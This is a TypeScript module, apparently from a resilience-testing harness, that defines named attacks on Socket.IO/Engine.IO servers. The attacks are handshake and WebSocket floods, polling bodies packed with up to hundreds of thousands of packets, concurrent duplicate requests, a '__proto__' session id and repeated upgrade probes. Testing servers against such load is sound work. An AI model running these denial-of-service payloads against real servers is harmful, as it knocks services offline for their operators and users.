import { type Attack, requests } from '../attacker.ts';
import { frame, get, lazily, post, times, webSocketUpgrade } from '../frames.ts';

const engine = '/socket.io/?EIO=4&transport=polling';
const to = (sid: string) => `${engine}&sid=${sid}`;
const poll = (sid: string) => get(to(sid));
const many = (count: number, packet: string) => times(count, `${packet}\x1e`).subarray(0, -1);

/** Takes a session over polling, joins it if so said, and sends one body after the other as long as it lives. */
function bodies(make: () => Buffer, { joins = false, places = 1 } = {}): Attack {
  const body = lazily(make);
  return attacker =>
    attacker.inParallel(places, async wire => {
      const sid = await attacker.handshake(wire);
      if (sid && joins) await wire.ask(post(to(sid), '40'));
      for (let status: string | undefined = '2'; sid && attacker.goes && status === '2'; ) {
        await wire.ask(post(to(sid), body()));
        [, status] = await wire.find(/HTTP\/1.1 (2|4|5)/);
      }
    });
}

/** A session over polling, asked for two things at once, on two connections. */
const twice =
  (make: (sid: string) => string | Buffer): Attack =>
  attacker =>
    attacker.inParallel(10, async one => {
      const [sid, two] = [await attacker.handshake(one), await attacker.open()];
      if (sid) await Promise.all([one, two].map(wire => wire.ask(make(sid))));
      two.close();
    });

/** What Engine.IO makes of requests: sessions, payloads and packets. */
export const engineAttacks: Record<string, Attack> = {
  'engine-handshakes': requests(() => get(engine)),
  'engine-web-sockets': attacker =>
    attacker.inParallel(
      1200,
      wire => wire.end(),
      () => attacker.webSocket(),
    ),
  'engine-connects-60k': bodies(() => many(20_000, '40')),
  'engine-connects-1m': bodies(() => many(349_000, '40')),
  'engine-namespaces-1m': bodies(() => many(200_000, '40/x')),
  'engine-events-1m': bodies(() => many(170_000, '42[1]'), { joins: true }),
  'engine-empty-messages': bodies(() => many(30_000, '4'), { joins: true }),
  'engine-noops': bodies(() => many(30_000, '6'), { joins: true }),
  'engine-closes': bodies(() => many(30_000, '1')),
  'engine-probes': bodies(() => many(8000, '2probe\x1e5')),
  'engine-odd-types': bodies(() => many(20_000, '9x'), { joins: true }),
  'engine-binary': bodies(() => many(10_000, 'bAAAA'), { joins: true }),
  'engine-pongs-unpolled': bodies(() => many(100, '3'), { joins: true, places: 10 }),
  'engine-two-polls': twice(poll),
  'engine-two-posts': twice(sid => post(to(sid), '40')),
  'engine-unknown-session': requests(() => poll('a'.repeat(20))),
  'engine-odd-session': requests(() => poll('__proto__')),
  'engine-old-protocol': requests(() => get(engine.replace('4', '3'))),
  'engine-upgrade-probes': attacker =>
    attacker.inParallel(5, async wire => {
      const sid = await attacker.handshake(wire);
      for (let n = 0; sid && n < 20 && attacker.goes; n++) {
        const second = await attacker.open();
        await second.ask(webSocketUpgrade('', `/socket.io/?EIO=4&transport=websocket&sid=${sid}`));
        await second.send(frame('2probe'));
      }
    }),
};
